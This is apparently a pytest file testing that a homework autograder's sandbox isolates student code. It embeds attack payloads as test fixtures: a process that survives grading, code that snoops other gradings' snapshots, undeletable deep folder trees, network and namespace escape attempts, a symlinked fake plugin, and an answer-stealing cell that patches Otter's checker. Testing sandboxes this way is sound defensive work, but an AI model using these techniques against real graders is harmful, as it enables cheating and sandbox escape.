    assert results["score"] == 0 and "not a valid .ipynb file" in results["output"]
    assert {t["name"] for t in results["tests"]} >= {"q1", "q8", "q9"}


@root_only
def test_a_non_root_grader_grades_in_namespaces(released, solution_notebook, tmp_path):
    """An instructor's laptop: otter run as an ordinary user (here uid 1234) grades the reference fully, with
    student code in namespaces of its own (tests/test_laptop.py attacks that path), and says so in the record.
    Ending the package runner and whatever it left before the notebook runs must not end the grader or the
    kernel."""
    import tempfile

    home = Path(tempfile.mkdtemp(prefix="genai-hw-laptop-"))
    shutil.copytree(ROOT / "autograder", home / "autograder", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(released["zip"], home / "ag.zip")
    nb = nbformat.read(solution_notebook, as_version=4)
    nb.cells.insert(1, nbformat.v4.new_code_cell("import time\ntime.sleep(10)"))
    nbformat.write(nb, home / solution_notebook.name)
    package = home / "genai_hw"
    shutil.copytree(shipped(HW01), package, ignore=shutil.ignore_patterns("__pycache__"))
    with open(package / "training.py", "a") as f:
        f.write("\n_fit_line = fit_line\n\ndef fit_line(*args, **kwargs):\n    import time\n    time.sleep(0.6)\n"
                "    return _fit_line(*args, **kwargs)\n")
    make_submission(home / solution_notebook.name, package, home / "sub.zip")
    subprocess.run(["chown", "-R", "1234:1234", str(home)], check=True)
    probe = subprocess.run(["setpriv", "--reuid=1234", "--regid=1234", "--clear-groups", "env", f"PYTHONPATH={home}",
                            sys.executable, "-c", "import autograder.grading.namespaces as n; print(n.unavailable())"],
                           capture_output=True, text=True, cwd=home)
    if probe.stdout.strip() != "None":
        shutil.rmtree(home)
        pytest.skip(f"no user namespaces for a normal user here: {probe.stdout.strip() or probe.stderr[-300:]}")
    try:
        proc = subprocess.run(["setpriv", "--reuid=1234", "--regid=1234", "--clear-groups", "env",
                               f"HOME={home}", f"TMPDIR={home}", sys.executable, "-m", "otter", "run", "--no-logo",
                               "-a", "ag.zip", "-o", str(home), "sub.zip"],
                              cwd=home, capture_output=True, text=True, timeout=300)
        results = json.loads((home / "results.json").read_text()) if (home / "results.json").is_file() else {}
    finally:
        shutil.rmtree(home)
    assert score_of(results) == (20.0, 20.0), proc.stdout[-2000:] + proc.stderr[-2000:]
    assert results["extra_data"]["genai_hw"]["isolation"] == "namespaces"
    assert "NOT isolated" not in proc.stdout


def test_grade_refuses_where_nothing_isolates_unless_asked(released, tmp_path, monkeypatch, capsys):
    """Not root and no namespaces: genai-hw grade stops before grading (exit 2), saying why and how to go on;
    with --unsafe-no-isolation it warns plainly that nothing is isolated."""
    from autograder.build import cli
    from autograder.grading import namespaces

    monkeypatch.setattr(sandbox, "isolating", lambda: False)
    monkeypatch.setattr(sandbox, "_UNAVAILABLE", {})
    monkeypatch.setattr(namespaces, "unavailable", lambda python=None: "user namespaces are switched off")
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "x.zip").write_bytes(b"not a zip")
    args = ["grade", "--autograder", str(released["zip"]), str(subs), "--out", str(tmp_path / "g")]
    assert cli.main(args) == 2
    err = capsys.readouterr().err
    assert "cannot be isolated here" in err and "user namespaces are switched off" in err
    assert "--unsafe-no-isolation" in err and not (tmp_path / "g").exists()
    cli.main([*args, "--unsafe-no-isolation"])
    assert "NOT isolated" in capsys.readouterr().err


# Round 2 (issue 18): nothing of one grading reaches the next or a neighbour; no network ----------------

def live_tasks_of(uids: set[int]) -> list[str]:
    """Every live task (thread) of ``uids`` on the machine, read independently of the sandbox's own code:
    a process whose main thread exited shows a zombie leader, but its other threads still run."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            tids = os.listdir(f"/proc/{pid}/task")
        except OSError:
            continue
        for tid in tids:
            try:
                status = dict(line.split(":", 1) for line in open(f"/proc/{pid}/task/{tid}/status") if ":" in line)
            except OSError:
                continue
            if int(status["Uid"].split()[0]) in uids and status["State"].split()[0] not in ("Z", "X"):
                found.append(f"{pid}/{tid}")
    return found


SURVIVOR = '''
import ctypes, os, threading, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        def haunt():
            while True:
                try:
                    with open({report!r}, "a") as f:
                        f.write("alive\\n")
                except OSError:
                    pass
                time.sleep(0.1)
        threading.Thread(target=haunt).start()
        ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the main thread ends, the process lives on in its thread
    os._exit(0)
'''


@root_only
def test_no_process_survives_grading_even_one_whose_main_thread_exited(released, solution_notebook, tmp_path,
                                                                       report_dir):
    """A detached process that ends its main thread while another thread runs (its leader then shows as a
    zombie) is found by its tasks and killed; the next grading in the same slot is unharmed."""
    from autograder.build.grade import grade

    report = report_dir / "haunt.log"
    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(submission(released, tmp_path, append={"__init__": SURVIVOR.format(report=str(report))}),
                subs / "a_haunted.zip")
    shutil.copy(submission(released, tmp_path, package=shipped(HW01), notebook=solution_notebook), subs / "b_next.zip")
    rows = grade(released["zip"], [subs], tmp_path / "grades", jobs=1, log=lambda *_: None)
    assert [(r["score"], r["error"]) for r in rows] == [(0.0, ""), (20.0, "")], rows
    assert report.is_file(), "the survivor never ran"
    assert live_tasks_of(POOL) == []
    size = report.stat().st_size
    time.sleep(0.5)
    assert report.stat().st_size == size, "something of the submission still writes"
    assert sandbox.leftovers_of(POOL) == []


SNOOP_SNAPSHOTS = '''
import glob, json, os
seen = {{"read": [], "denied": []}}
own = __file__.split("/pkg/")[0]  # this grading's own snapshot, which its runner reads
for root in [r for r in glob.glob("/tmp/genai-hw-sandbox-*") if r != own]:
    for path in (root + "/pkg/genai_hw/secret.py", root + "/pkg/genai_hw/ngrams.py", root + "/notebook/x"):
        try:
            open(path).read()
            seen["read"].append(path)
        except OSError:
            seen["denied"].append(path)
open({report!r}, "w").write(json.dumps(seen))
'''


@root_only
def test_no_grading_reads_another_gradings_snapshot(released, tmp_path, report_dir):
    """While another grading holds a slot (its snapshot sealed as the runner reads it), a submission that
    knows the snapshot's path (from the other runner's world-readable command line) cannot read it."""
    other = sandbox.Sandbox()
    try:
        secret = other.pkg / "genai_hw"
        secret.mkdir(parents=True)
        (secret / "secret.py").write_text("ANSWER = 42\n")
        other.seal(other.pkg)
        upload = submission(released, tmp_path, append={"__init__": SNOOP_SNAPSHOTS.format(
            report=str(report_dir / "snoop.json"))})
        results = otter_run(released["zip"], upload, tmp_path / "out")
    finally:
        other.close()
    assert_like_stubs(results)
    seen = findings(report_dir, "snoop")
    assert str(other.root / "pkg" / "genai_hw" / "secret.py") in seen["denied"], seen
    assert seen["read"] == [], seen


DEEP_TREE = '''
import os
for start in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        fd = os.open(start, os.O_RDONLY)
        os.mkdir("genai-hw-deep", dir_fd=fd)
        for _ in range(3000):
            inner = os.open("genai-hw-deep" if _ == 0 else "d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
            os.mkdir("d", dir_fd=fd)
        os.chmod("d", 0, dir_fd=fd)
        os.close(fd)
    except OSError:
        pass
'''


@root_only
def test_a_tree_too_deep_to_delete_is_removed_and_the_slot_stays_usable(released, solution_notebook, tmp_path):
    """Folders 3000 levels deep (past PATH_MAX and Python's recursion limit), in the student's home and the
    shared temporary folders: the grading writes its results, nothing is left, the next grading runs."""
    from autograder.build.grade import grade

    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(submission(released, tmp_path, cells=(DEEP_TREE,), append={"__init__": DEEP_TREE}),
                subs / "a_deep.zip")
    shutil.copy(submission(released, tmp_path, package=shipped(HW01), notebook=solution_notebook), subs / "b_next.zip")
    rows = grade(released["zip"], [subs], tmp_path / "grades", jobs=1, log=lambda *_: None)
    assert [(r["score"], r["error"]) for r in rows] == [(0.0, ""), (20.0, "")], rows
    assert sandbox.leftovers_of(POOL) == []
    assert not any(Path(root, "genai-hw-deep").exists() for root in ("/tmp", "/dev/shm"))


NETWORK = '''
import ctypes, json, os, socket
seen = {{}}
for name, attempt in (
    ("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).close()),
    ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {port}))),
    ("ipv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)),
    ("dns", lambda: socket.getaddrinfo("example.com", 80)),
):
    try:
        attempt()
        seen[name] = "worked"
    except OSError as err:
        seen[name] = type(err).__name__
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (("user_namespace", 0x10000000), ("network_namespace", 0x40000000)):
    seen[name] = "worked" if libc.unshare(flag) == 0 else os.strerror(ctypes.get_errno())
try:
    os.memfd_create("hidden")
    seen["memfd"] = "worked"
except OSError as err:
    seen["memfd"] = type(err).__name__
seen["shmget"] = "worked" if libc.shmget(0, 1 << 20, 0o1600) >= 0 else os.strerror(ctypes.get_errno())
open({report!r}, "w").write(json.dumps(seen))
os.chmod({report!r}, 0o644)
'''


@root_only
def test_student_code_has_no_network_namespaces_or_hidden_memory(released, tmp_path, report_dir):
    """The runner (at import) and the kernel (in a cell) try TCP to a server listening on this machine, UDP,
    IPv6, DNS, new user and network namespaces, a memfd and System V shared memory: every attempt fails with
    an error, the server sees no connection, and no IPC object is left."""
    with tcp_server() as (port, connections):
        upload = submission(released, tmp_path,
                            cells=(NETWORK.format(port=port, report=str(report_dir / "kernel.json")),),
                            append={"__init__": NETWORK.format(port=port, report=str(report_dir / "runner.json"))})
        results = otter_run(released["zip"], upload, tmp_path / "out")
    assert_like_stubs(results)
    assert connections == []
    for side in ("runner", "kernel"):
        seen = findings(report_dir, side)
        assert "worked" not in seen.values(), (side, seen)
        assert seen["tcp"] == seen["memfd"] == "PermissionError", (side, seen)
    assert sandbox.ipc_objects_of(POOL) == []


LINKED_PLUGIN = '''
from pathlib import Path
Path({marker!r}).touch()
raise SystemExit("the upload's own plugin ran")
'''


def test_nothing_of_the_autograder_is_found_through_a_link_in_the_upload(released, solution_notebook, tmp_path):
    """Gradescope's unpacking may keep links: a notebook that is a link into a folder the student laid out
    like an autograder (with its own plugin) is dropped before anything reads the upload; the grader uses
    its own source and says the notebook is missing."""
    marker = tmp_path / "marker" / "PLUGIN_RAN"
    marker.parent.mkdir()
    ag, script = gradescope_layout(released, tmp_path)
    fake = ag / "submission" / "fake"
    (fake / "submission").mkdir(parents=True)
    shutil.copytree(ag / "source", fake / "source")
    (fake / "source" / "autograder" / "grading" / "plugin.py").write_text(LINKED_PLUGIN.format(marker=str(marker)))
    shutil.copy(solution_notebook, fake / "submission" / solution_notebook.name)
    (ag / "submission" / solution_notebook.name).symlink_to(fake / "submission" / solution_notebook.name)
    shutil.copytree(shipped(HW01), ag / "submission" / "genai_hw", ignore=shutil.ignore_patterns("__pycache__"))
    subprocess.run([sys.executable, "-c", script], capture_output=True, cwd=tmp_path, timeout=300)
    results = json.loads((ag / "results" / "results.json").read_text())
    assert not marker.exists(), "the upload's plugin ran"
    assert not (ag / "submission" / solution_notebook.name).exists()
    assert score_of(results)[0] == 0 and "notebook" in results["output"].lower(), results["output"][:500]


@root_only
@pytest.mark.skipif(sys.prefix == sys.base_prefix, reason="needs the tests' Python in a virtual environment")
def test_a_grader_that_cannot_run_student_code_stops_before_grading(released, tmp_path):
    """The grading Python out of the sandbox users' reach (a virtual environment in a private folder):
    genai-hw grade stops before grading anyone, saying why and how to fix it; the Gradescope entry point
    exits with the reason and writes no result (no zero for the student)."""
    from autograder.build import cli

    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(submission(released, tmp_path), subs / "a.zip")
    ag, script = gradescope_layout(released, tmp_path)
    zipfile.ZipFile(subs / "a.zip").extractall(ag / "submission")
    venv = Path(sys.prefix)
    mode = venv.stat().st_mode & 0o7777
    venv.chmod(0o700)
    try:
        code = cli.main(["grade", "--autograder", str(released["zip"]), str(subs), "--out", str(tmp_path / "g")])
        gradescope = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path,
                                    timeout=300)
    finally:
        venv.chmod(mode)
    assert code == 2 and not (tmp_path / "g" / "grades.csv").exists()
    assert gradescope.returncode != 0 and "cannot run" in gradescope.stderr, gradescope.stderr[-1000:]
    assert not (ag / "results" / "results.json").exists()


ANSWER_THIEF = '''
import glob, json, re
found = []
for path in glob.glob("**/*.py", recursive=True) + glob.glob("/tmp/**/q9.py", recursive=True):
    try:
        text = open(path).read()
    except OSError:
        continue
    if "best_n ==" in text:
        found.append(path)
        best_n = int(re.search(r"best_n == (\\d+)", text).group(1))
from otter.execute import Checker
Checker.check_if_not_already_checked = lambda *a, **k: None  # claim nothing, or anything
open({report!r}, "w").write(json.dumps({{"found": found}}))
'''


@root_only
def test_notebook_answers_are_judged_by_the_grader_out_of_the_kernels_reach(released, solution_notebook, tmp_path,
                                                                            report_dir):
    """hw01's q9 (a notebook answer, 1 hidden point): the kernel's copy of the tests has no hidden case, so a
    notebook that searches every file it can read finds no expected value; the grader runs the hidden case
    on the value the notebook reports. A wrong answer loses the point even with Otter's checker patched out;
    the right one keeps it."""
    thief = ANSWER_THIEF.format(report=str(report_dir / "thief.json")) + "\nbest_n = 4\n"
    nb = nbformat.read(solution_notebook, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(thief))
    wrong = tmp_path / "wrong"
    wrong.mkdir()
    nbformat.write(nb, wrong / solution_notebook.name)
    upload = make_submission(wrong / solution_notebook.name, shipped(HW01), wrong / "upload.zip")
    results = otter_run(released["zip"], upload, tmp_path / "out")
    assert findings(report_dir, "thief")["found"] == []
    scores = per_question(results)
    assert scores["q9"] == (0, 1), scores
    assert all(got == possible for q, (got, possible) in scores.items() if q != "q9"), scores


DOCKER_CAPABILITIES = ("chown,dac_override,fsetid,fowner,mknod,net_raw,setgid,setuid,setfcap,setpcap,"
                       "net_bind_service,sys_chroot,kill,audit_write")
"""What root keeps in a default (unprivileged) Docker container, such as Gradescope's: no CAP_SYS_ADMIN,
no CAP_SYS_RESOURCE, no CAP_SYS_PTRACE."""


@root_only
@pytest.mark.skipif(not shutil.which("setpriv"), reason="needs util-linux's setpriv")
def test_the_sandbox_holds_with_only_dockers_default_capabilities(released, solution_notebook, tmp_path,
                                                                   report_dir):
    """The grader as root with only Docker's default capabilities: the reference still scores full marks,
    and the kernel still has no network (the seccomp filter needs no privilege)."""
    cell = NETWORK.format(port=9, report=str(report_dir / "kernel.json"))
    nb = nbformat.read(solution_notebook, as_version=4)
    nb.cells.insert(1, nbformat.v4.new_code_cell(cell))
    folder = tmp_path / "sub"
    folder.mkdir()
    nbformat.write(nb, folder / solution_notebook.name)
    upload = make_submission(folder / solution_notebook.name, shipped(HW01), folder / "upload.zip")
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    proc = subprocess.run(["setpriv", f"--bounding-set=-all,+{DOCKER_CAPABILITIES.replace(',', ',+')}",
                           "--inh-caps=-all", sys.executable, "-m", "otter", "run", "--no-logo", "-a",
                           str(released["zip"]), "-o", str(private), str(upload)],
                          env=dict(os.environ, TMPDIR=str(private)), capture_output=True, text=True, timeout=300)
    results = json.loads((private / "results.json").read_text()) if (private / "results.json").is_file() else {}
    assert score_of(results) == (20.0, 20.0), proc.stdout[-2000:] + proc.stderr[-2000:]
    seen = findings(report_dir, "kernel")
    assert "worked" not in seen.values(), seen
